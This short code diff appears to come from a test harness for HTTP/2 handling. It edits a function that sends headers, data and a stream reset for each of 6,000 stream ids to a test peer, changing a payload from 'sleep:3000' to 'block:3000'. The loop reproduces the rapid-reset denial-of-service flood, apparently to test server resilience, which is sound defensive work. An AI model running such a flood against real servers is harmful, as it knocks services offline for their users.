@@ -26,7 +26,7 @@ def rapid_reset(body: bytes, code: int):
 
 def paced_reset(arena: Arena) -> str:
     peer = arena.dial()
-    body = lpm(msg("sleep:3000"))
+    body = lpm(msg("block:3000"))
     for i in ids(6_000):
         if not peer.send(headers(i) + data(i, body, True) + rst(i)) or peer.goaway:
             break
